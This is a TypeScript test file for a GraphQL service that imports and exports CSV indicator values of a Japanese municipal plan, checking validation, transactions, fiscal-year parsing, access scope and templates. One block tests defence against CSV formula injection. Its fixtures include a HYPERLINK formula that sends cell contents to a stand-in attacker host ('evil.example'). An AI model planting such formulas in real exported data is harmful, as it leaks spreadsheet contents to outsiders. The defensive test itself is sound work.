import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { startTestApp, type TestApp } from '../support/app';
import { code, setUpActuals, type Actuals } from '../support/actuals';

// Bulk actuals: CSV import (dry run, all-or-nothing, per-row errors) and export, round-tripping.

let app: TestApp;
let a: Actuals;

const IMPORT = `mutation($csv: String!, $dryRun: Boolean) { importActuals(csv: $csv, dryRun: $dryRun) {
  dryRun applied rows created revised unchanged skipped errors { line column code message } summary } }`;
const EXPORT = `query($drafts: Boolean) { exportActuals(planCode: "arakawa", includeDrafts: $drafts) }`;

interface Report {
  dryRun: boolean;
  applied: boolean;
  rows: number;
  created: number;
  revised: number;
  unchanged: number;
  skipped: number;
  errors: { line: number; column: string | null; code: string; message: string }[];
  summary: string;
}

async function importCsv(csv: string, dryRun: boolean, token = a.tokens.editor): Promise<Report> {
  const res = await app.gqlAs<{ importActuals: Report }>(token, IMPORT, { csv, dryRun });
  if (res.errors) throw new Error(JSON.stringify(res.errors));
  return res.data!.importActuals;
}

async function exportCsv(token?: string): Promise<string> {
  const res = token
    ? await app.gqlAs<{ exportActuals: string }>(token, EXPORT, { drafts: true })
    : await app.gql<{ exportActuals: string }>(EXPORT, { drafts: false });
  if (res.errors) throw new Error(JSON.stringify(res.errors));
  return res.data!.exportActuals;
}

const byName = [
  'plan_code,indicator_name,fiscal_year,value,note',
  'arakawa,区政に関心がある区民の割合,2021,54.8%,世論調査',
  'arakawa,"ホームページ訪問回数 (月平均)",2021,"340,000回",',
].join('\n');

beforeAll(async () => {
  app = await startTestApp();
  a = await setUpActuals(app);
});
afterAll(async () => {
  await app?.close();
});

describe('importActuals', () => {
  it('needs a token', async () => {
    const res = await app.gql(IMPORT, { csv: byName, dryRun: true });
    expect(code(res)).toBe('UNAUTHENTICATED');
  });

  it('validates in a dry run and writes nothing', async () => {
    const before = await a.revisionCount();
    expect(await importCsv(byName, true)).toEqual({
      dryRun: true,
      applied: false,
      rows: 2,
      created: 2,
      revised: 0,
      unchanged: 0,
      skipped: 0,
      errors: [],
      summary: 'Dry run, nothing written: 2 created, 0 revised, 0 unchanged. Import with dryRun: false to write.',
    });
    expect(await a.revisionCount()).toBe(before);
  });

  it('writes every row in one transaction', async () => {
    const before = await a.revisionCount();
    expect(await importCsv(byName, false)).toMatchObject({ applied: true, created: 2, errors: [] });
    expect(await a.revisionCount()).toBe(before + 2);
  });

  it('reports every bad row with its line and writes none of the rows', async () => {
    const before = await a.revisionCount();
    const csv = [
      'plan_code,indicator_name,fiscal_year,value,note',
      'arakawa,経常収支比率,2021,88.0%,',
      'arakawa,経常収支比率,2022,88件,',
      'arakawa,存在しない指標,2021,1件,',
      'arakawa,経常収支比率,2040,80%,',
      'arakawa,区政に関心がある区民の割合,2021,55.0%,',
    ].join('\n');
    const report = await importCsv(csv, false);
    expect(report.applied).toBe(false);
    expect(report.errors.map((e) => [e.line, e.column, e.code])).toEqual([
      [3, 'value', 'UNIT_MISMATCH'],
      [4, 'indicator_name', 'NOT_FOUND'],
      [5, 'fiscal_year', 'FISCAL_YEAR_OUTSIDE_PLAN'],
      [6, 'expected_revision', 'CONFLICT'],
    ]);
    // Messages speak of the CSV's columns, and an unknown name gets the closest names of the plan.
    expect(report.errors[3].message).toContain('expected_revision');
    expect(report.errors[3].message).not.toContain('expectedRevision');
    expect(report.errors[1].message).toBe('No indicator named 「存在しない指標」 in plan "arakawa".');
    const typo = await importCsv('plan_code,indicator_name,fiscal_year,value\narakawa,経常収支率,2021,88.0%', true);
    expect(typo.errors[0].message).toContain('Did you mean 「経常収支比率」');
    expect(await a.revisionCount()).toBe(before);
  });

  it('reads fiscal_year as 2021, FY2021, R3, 令和3年度 or full-width digits, and refuses a bare era year', async () => {
    const cells = ['2021', 'FY2021', 'R3', '令和3年度', '２０２１', '2021年度'];
    const csv = [
      'plan_code,indicator_name,fiscal_year,value',
      ...cells.map((year, i) => `arakawa,区政に関心がある区民の割合,${year},5${i}.0%`),
    ].join('\n');
    const report = await importCsv(csv, true);
    // Every spelling is the same year: the rows after the first are duplicates of it, not unreadable years.
    expect(report.errors.filter((e) => e.column === 'fiscal_year' && e.code === 'BAD_USER_INPUT')).toEqual([]);
    expect(report.errors.map((e) => e.line)).toEqual(expect.arrayContaining([3, 4, 5, 6, 7]));
    const single = await importCsv(
      'plan_code,indicator_name,fiscal_year,value\narakawa,経常収支比率,令和4年度,88.0%',
      true,
    );
    expect(single).toMatchObject({ rows: 1, created: 1, errors: [] });
    for (const bad of ['3', 'abc', 'R', '令和']) {
      const r = await importCsv(`plan_code,indicator_name,fiscal_year,value\narakawa,経常収支比率,${bad},88.0%`, true);
      expect(r.errors.map((e) => [e.column, e.code])).toEqual([['fiscal_year', 'BAD_USER_INPUT']]);
      expect(r.errors[0].message).toContain('R3 or 令和3年度');
    }
  });

  it('refuses unreadable CSV and unknown columns as a whole', async () => {
    const broken = await app.gqlAs(a.tokens.editor, IMPORT, {
      csv: 'indicator_id,fiscal_year,value\n"unclosed,2021,1',
      dryRun: true,
    });
    expect(code(broken)).toBe('BAD_USER_INPUT');
    const unknown = await app.gqlAs(a.tokens.editor, IMPORT, {
      csv: 'indicator_id,fiscal_year,value,colour\n',
      dryRun: true,
    });
    expect(code(unknown)).toBe('BAD_USER_INPUT');
    expect(unknown.errors![0].message).toContain('colour');
  });

  it('applies token scope row by row', async () => {
    const report = await importCsv(byName.replace(/2021/g, '2022'), false, a.tokens.scoped);
    expect(report.applied).toBe(false);
    expect(report.errors.map((e) => e.code)).toEqual(['FORBIDDEN', 'FORBIDDEN']);
  });
});

describe('exportActuals', () => {
  it('round-trips: export → edit → import revises only the edited row; an unedited export changes nothing', async () => {
    const exported = await exportCsv(a.tokens.editor);
    const rows = parse(exported, { columns: true }) as Record<string, string>[];
    expect(Object.keys(rows[0])).toEqual([
      'indicator_id',
      'plan_code',
      'indicator_name',
      'fiscal_year',
      'value',
      'note',
      'expected_revision',
    ]);
    expect(rows.map((r) => [r.indicator_name, r.fiscal_year, r.value, r.note, r.expected_revision])).toEqual([
      ['区政に関心がある区民の割合', '2021', '54.8%', '世論調査', '1'],
      ['ホームページ訪問回数 (月平均)', '2021', '340,000回', '', '1'],
    ]);

    const before = await a.revisionCount();
    expect(await importCsv(exported, false)).toMatchObject({ applied: true, created: 0, revised: 0, unchanged: 2 });
    expect(await a.revisionCount()).toBe(before);

    const edited = exported.replace('340,000回', '341,000回');
    expect(await importCsv(edited, false)).toMatchObject({ applied: true, revised: 1, unchanged: 1 });
    const again = parse(await exportCsv(a.tokens.editor), { columns: true }) as Record<string, string>[];
    expect(again[1]).toMatchObject({ value: '341,000回', expected_revision: '2' });
  });

  it('shows the public approved values only', async () => {
    expect((await exportCsv()).trim()).toBe(
      'indicator_id,plan_code,indicator_name,fiscal_year,value,note,expected_revision',
    );
    await a.approved('経常収支比率', 2023, '84.0%');
    const rows = parse(await exportCsv(), { columns: true }) as Record<string, string>[];
    expect(rows.map((r) => [r.indicator_name, r.value])).toEqual([['経常収支比率', '84.0%']]);
  });
});

describe('exportActuals in a spreadsheet', () => {
  // Notes a spreadsheet would run as formulas, and notes that already start with the guard quote.
  const notes = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '+1',
    '-x',
    '@SUM(A1)',
    '\tTab-led',
    '\rCR-led',
    "'=already quoted",
    "'plain quote",
  ];
  const years = [
    ['経常収支比率', 2022],
    ['経常収支比率', 2024],
    ['経常収支比率', 2025],
    ['経常収支比率', 2026],
    ['区政に関心がある区民の割合', 2022],
    ['区政に関心がある区民の割合', 2023],
    ['区政に関心がある区民の割合', 2024],
    ['区政に関心がある区民の割合', 2025],
  ] as const;

  async function notesNow(): Promise<string[]> {
    const out: string[] = [];
    for (const [name, year] of years) {
      const [row] = (await app.db.dataSource.query(
        `SELECT r.note FROM actual a JOIN actual_revision r ON r.actual_id = a.id AND r.revision = a.revision
           JOIN indicator i ON i.id = a.indicator_id JOIN plan p ON p.id = a.plan_id
          WHERE p.code = 'arakawa' AND i.name = $1 AND a.fiscal_year = $2`,
        [name, year],
      )) as { note: string }[];
      out.push(row.note);
    }
    return out;
  }

  it('neutralises formula cells, and the import restores them exactly', async () => {
    for (const [i, [name, year]] of years.entries()) {
      const res = await a.record(a.tokens.editor, name, year, i < 4 ? '85.0%' : '50.0%', { note: notes[i] });
      expect(res.errors).toBeUndefined();
    }
    const exported = await exportCsv(a.tokens.editor);
    // Opened as a spreadsheet would: every cell as written, nothing trimmed.
    const cells = (parse(exported, { columns: true }) as Record<string, string>[]).map((r) => r.note);
    for (const note of notes.slice(0, 7)) {
      expect(cells).toContain(`'${note}`);
      expect(exported).toContain(`"'${note.replace(/"/g, '""')}"`);
    }
    expect(cells).toContain("'plain quote");
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);

    // Unchanged on re-import: every stripped cell equals the stored note.
    const before = await a.revisionCount();
    const again = await importCsv(exported, false);
    expect(again).toMatchObject({ applied: true, created: 0, revised: 0, errors: [] });
    expect(await a.revisionCount()).toBe(before);

    // Edited values, the same notes: the notes come back as they were recorded.
    const edited = exported.replace(/,85\.0%,/g, ',84.0%,').replace(/,50\.0%,/g, ',51.0%,');
    expect(await importCsv(edited, false)).toMatchObject({ applied: true, revised: 8, errors: [] });
    expect(await notesNow()).toEqual(notes);
  });
});

describe('exportActuals(template: true) and fiscalYear', () => {
  const TEMPLATE = `query($plan: String!, $year: Int, $template: Boolean) {
    exportActuals(planCode: $plan, fiscalYear: $year, template: $template) }`;
  const YEARS = [2020, 2021, 2022, 2023, 2024, 2025, 2026];

  async function exported(variables: Record<string, unknown>, token?: string): Promise<Record<string, string>[]> {
    const res = token
      ? await app.gqlAs<{ exportActuals: string }>(token, TEMPLATE, { plan: 'arakawa', ...variables })
      : await app.gql<{ exportActuals: string }>(TEMPLATE, { plan: 'arakawa', ...variables });
    if (res.errors) throw new Error(JSON.stringify(res.errors));
    return parse(res.data!.exportActuals, { columns: true }) as Record<string, string>[];
  }

  async function indicators(): Promise<{ id: number; name: string }[]> {
    return (await app.db.dataSource.query(
      `SELECT i.id, i.name FROM indicator i JOIN plan p ON p.id = i.plan_id WHERE p.code = 'arakawa'
        ORDER BY i.position, i.id`,
    )) as { id: number; name: string }[];
  }

  /** The latest revision of every actual of the plan, by "indicator global id|year". */
  async function latestRevisions(): Promise<Map<string, { revision: number; status: string }>> {
    const rows = (await app.db.dataSource.query(
      `SELECT a.indicator_id, a.fiscal_year, a.revision, a.status FROM actual a JOIN plan p ON p.id = a.plan_id
        WHERE p.code = 'arakawa'`,
    )) as { indicator_id: number; fiscal_year: number; revision: number; status: string }[];
    return new Map(
      rows.map((r) => [
        `${Buffer.from(`Indicator:${r.indicator_id}`).toString('base64')}|${r.fiscal_year}`,
        { revision: r.revision, status: r.status },
      ]),
    );
  }

  it('lists every indicator × year of the plan in the export’s columns, value empty, with expected_revision', async () => {
    const csvText = (
      await app.gqlAs<{ exportActuals: string }>(a.tokens.editor, TEMPLATE, { plan: 'arakawa', template: true })
    ).data!.exportActuals;
    expect(csvText.split('\n')[0]).toBe(
      'indicator_id,plan_code,indicator_name,fiscal_year,value,note,expected_revision',
    );
    const rows = await exported({ template: true }, a.tokens.editor);
    const all = await indicators();
    expect(all.length).toBeGreaterThan(50);
    expect(rows).toHaveLength(all.length * YEARS.length);
    expect(rows.map((r) => [r.indicator_name, Number(r.fiscal_year)])).toEqual(
      all.flatMap((i) => YEARS.map((y) => [i.name, y])),
    );
    expect(new Set(rows.map((r) => r.plan_code))).toEqual(new Set(['arakawa']));
    expect(rows.filter((r) => r.value !== '')).toEqual([]);
    // A row whose actual exists carries its latest revision (drafts included, for a token holder).
    const latest = await latestRevisions();
    expect(latest.size).toBeGreaterThan(0);
    for (const r of rows) {
      expect(r.expected_revision).toBe(String(latest.get(`${r.indicator_id}|${r.fiscal_year}`)?.revision ?? ''));
    }
  });

  it('round-trips: two cells filled in are imported as drafts, the empty rows skipped, nothing else touched', async () => {
    const rows = await exported({ template: true }, a.tokens.editor);
    const open = rows.filter((r) => r.expected_revision === '' && /%$|割合|比率/.test(r.indicator_name));
    const chosen = [open[0], open.find((r) => r.indicator_id !== open[0].indicator_id)!];
    const before = await latestRevisions();
    const revisionsBefore = await a.revisionCount();

    const untouched = await importCsv(
      (await app.gqlAs<{ exportActuals: string }>(a.tokens.editor, TEMPLATE, { plan: 'arakawa', template: true })).data!
        .exportActuals,
      false,
    );
    expect(untouched).toMatchObject({
      applied: false,
      rows: rows.length,
      created: 0,
      skipped: rows.length,
      errors: [],
    });
    expect(untouched.summary).toBe(
      `Nothing written: every one of the ${rows.length} rows has an empty value (skipped). Fill in the value column.`,
    );
    expect(await a.revisionCount()).toBe(revisionsBefore);

    // Filled in as a spreadsheet would: only the value cells of the two rows change.
    const values = ['61.5%', '62.5%'];
    const filled = rows.map((r) => {
      const at = chosen.indexOf(r);
      return at < 0 ? r : { ...r, value: values[at] };
    });
    const csvText = stringify(filled, { header: true, columns: Object.keys(rows[0]) });
    const report = await importCsv(csvText, false);
    expect(report).toMatchObject({ applied: true, created: 2, revised: 0, unchanged: 0, skipped: rows.length - 2 });
    expect(report.errors).toEqual([]);
    expect(report.summary).toBe(
      `Written in one transaction: 2 created, 0 revised, 0 unchanged, ${rows.length - 2} skipped (empty value).`,
    );
    expect(await a.revisionCount()).toBe(revisionsBefore + 2);

    const after = await latestRevisions();
    for (const c of chosen)
      expect(after.get(`${c.indicator_id}|${c.fiscal_year}`)).toEqual({ revision: 1, status: 'DRAFT' });
    expect(after.size).toBe(before.size + 2);
    for (const [key, value] of before) expect(after.get(key)).toEqual(value);
    // The export shows the two drafts with their values; the template shows them with expected_revision 1.
    const drafts = parse(await exportCsv(a.tokens.editor), { columns: true }) as Record<string, string>[];
    const again = await exported({ template: true }, a.tokens.editor);
    for (const [i, c] of chosen.entries()) {
      const same = (r: Record<string, string>) => r.indicator_id === c.indicator_id && r.fiscal_year === c.fiscal_year;
      expect(drafts.find(same)).toMatchObject({ value: values[i], expected_revision: '1' });
      expect(again.find(same)).toMatchObject({ value: '', expected_revision: '1' });
    }
  });

  it('fiscalYear keeps that year: a template row per indicator, an export of that year’s actuals only', async () => {
    const all = await indicators();
    const template = await exported({ template: true, year: 2022 }, a.tokens.editor);
    expect(template).toHaveLength(all.length);
    expect(new Set(template.map((r) => r.fiscal_year))).toEqual(new Set(['2022']));
    expect(template.map((r) => r.indicator_name)).toEqual(all.map((i) => i.name));

    const everything = parse(await exportCsv(a.tokens.editor), { columns: true }) as Record<string, string>[];
    const only2021 = parse(
      (
        await app.gqlAs<{ exportActuals: string }>(
          a.tokens.editor,
          'query($y: Int) { exportActuals(planCode: "arakawa", includeDrafts: true, fiscalYear: $y) }',
          { y: 2021 },
        )
      ).data!.exportActuals,
      { columns: true },
    ) as Record<string, string>[];
    expect(only2021.length).toBeGreaterThan(0);
    expect(only2021).toEqual(everything.filter((r) => r.fiscal_year === '2021'));
    // The public's template: the same rows, revisions of approved actuals only.
    const publicTemplate = await exported({ template: true, year: 2022 });
    expect(publicTemplate.map((r) => r.indicator_id)).toEqual(template.map((r) => r.indicator_id));
    // A draft (経常収支比率 2022, recorded above with a note and never approved) is invisible to the public.
    const draftRow = (rows: Record<string, string>[]) => rows.find((r) => r.indicator_name === '経常収支比率')!;
    expect(draftRow(template).expected_revision).not.toBe('');
    expect(draftRow(template).note).not.toBe('');
    expect(draftRow(publicTemplate)).toMatchObject({ value: '', note: '', expected_revision: '' });
  });

  it('refuses a fiscalYear outside the plan with the plan’s years, and an unknown plan', async () => {
    for (const variables of [{ year: 2040, template: true }, { year: 2019 }]) {
      const res = await app.gqlAs(a.tokens.editor, TEMPLATE, { plan: 'arakawa', ...variables });
      expect(res.status).toBe(200);
      expect(code(res)).toBe('BAD_USER_INPUT');
      expect(res.errors![0].message).toBe(
        `fiscalYear ${variables.year} is not a year of plan "arakawa": its years are 2020 to 2026 (令和2年度 to 令和8年度).`,
      );
      expect(res.errors![0].extensions).toMatchObject({ argument: 'fiscalYear', years: YEARS });
    }
    const unknown = await app.gql(TEMPLATE, { plan: 'no-such-plan', template: true });
    expect(code(unknown)).toBe('NOT_FOUND');
  });
});
